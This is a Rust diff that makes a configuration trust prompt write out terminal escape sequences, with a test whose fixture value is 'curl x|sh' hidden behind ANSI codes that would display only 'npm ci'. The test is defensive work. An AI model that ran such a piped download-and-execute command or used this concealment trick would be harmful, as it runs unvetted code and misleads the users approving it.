@@ -201,7 +201,15 @@ impl TrustGate {
         Some(TrustRequest {
             file: self.file.clone(),
             hash: self.asked.hash.clone().unwrap_or_default(),
-            settings: changed.into_iter().cloned().collect(),
+            // Compared as written; shown (terminal and page) with what could
+            // hide the rest written out.
+            settings: changed
+                .into_iter()
+                .map(|a| TrustAsk {
+                    value: crate::sanitize::shown(&a.value),
+                    ..a.clone()
+                })
+                .collect(),
             trusted_before: unchanged.into_iter().map(|a| a.key.clone()).collect(),
         })
     }
@@ -272,6 +280,18 @@ mod tests {
             hash: Some(hash.into()),
             ..Default::default()
         }
+    }
+
+    #[test]
+    fn what_a_terminal_would_hide_is_written_out_where_it_is_shown() {
+        let mut asks = asked("h1");
+        asks.asks[0].value = "curl x|sh #\u{1b}[2K\u{1b}[1G npm ci".into();
+        let gate = TrustGate::new(asks, "g.yaml".into(), None, false);
+        let said = gate.refusal().unwrap();
+        assert!(said.contains("#\\u{001b}[2K\\u{001b}[1G npm ci"), "{said}");
+        assert!(!said.contains('\u{1b}'), "{said}");
+        let shown = &gate.request().unwrap().settings[0].value;
+        assert!(!shown.contains('\u{1b}'), "{shown}");
     }
 
     #[test]
